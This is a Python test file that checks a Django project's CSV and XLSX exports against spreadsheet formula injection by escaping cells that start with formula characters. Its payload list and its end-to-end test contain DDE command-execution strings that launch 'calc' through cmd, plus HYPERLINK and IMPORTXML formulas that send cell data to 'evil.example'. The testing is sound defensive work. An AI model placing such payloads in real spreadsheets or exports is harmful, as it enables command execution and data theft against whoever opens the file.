"""CSV and XLSX exports never hand a spreadsheet a formula, whatever text people typed.

The payloads are the issue's list (=, +, -, @, tab, carriage return) and known attacks; the
property tests then try arbitrary text built from formula triggers, spaces and ordinary words,
and read each file back the way a spreadsheet would: the cell must be text, not a formula.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from inpractice.analysis.spreadsheet import DANGEROUS_PREFIXES, safe_cell, write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@IF(1,1)",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
SPACES = " \u00a0"


def triggers(text: str) -> bool:
    """Would a spreadsheet read this cell as the start of a formula?"""
    stripped = text.lstrip(SPACES)
    return bool(stripped) and stripped[0] in DANGEROUS_PREFIXES


def csv_cells(rows: list[dict]) -> list[str]:
    buffer = io.BytesIO()
    write_csv(rows, ["text"], buffer)
    text = buffer.getvalue().decode("utf-8-sig")
    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def xlsx_cells(rows: list[dict]) -> list:
    buffer = io.BytesIO()
    write_xlsx({"Rows": (["text"], rows)}, buffer)
    buffer.seek(0)
    sheet = load_workbook(buffer).active  # not read-only: data_type tells formula from text
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_payload_is_text_in_csv_and_xlsx(payload):
    assert csv_cells([{"text": payload}]) == ["'" + payload]
    (cell,) = xlsx_cells([{"text": payload}])
    assert cell.data_type == "s"
    assert cell.value == "'" + payload


text_strategy = st.text(
    alphabet=st.sampled_from(sorted(DANGEROUS_PREFIXES) + list(SPACES) + list("abc1(),!\"'#")),
    max_size=12,
) | st.text(max_size=12)


@settings(max_examples=150, deadline=None)
@given(texts=st.lists(text_strategy, min_size=1, max_size=5))
def test_no_text_ever_reaches_a_spreadsheet_as_a_formula(texts):
    rows = [{"text": t} for t in texts]
    for original, cell in zip(texts, csv_cells(rows), strict=True):
        if triggers(original):
            assert cell.startswith("'"), (original, cell)
        else:
            assert cell == original
    for original, cell in zip(texts, xlsx_cells(rows), strict=True):
        assert cell.data_type != "f", (original, cell.value)
        if triggers(original):
            assert str(cell.value).startswith("'"), (original, cell.value)


@settings(max_examples=50, deadline=None)
@given(value=st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_stay_numbers(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_public_open_data_csv_neutralises_formulas_typed_into_a_case_study(client, open_call):
    """End to end: text a submitter typed, published in the library, downloaded as open data."""
    from django.urls import reverse

    from tests.library.factories import make_case_study

    make_case_study(open_call, "published", title="=cmd|' /C calc'!A0")
    response = client.get(reverse("library:download_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    formulas = [c for c in cells if triggers(c) and not c.startswith("'")]
    assert not formulas, formulas
    assert "'=cmd|' /C calc'!A0" in cells
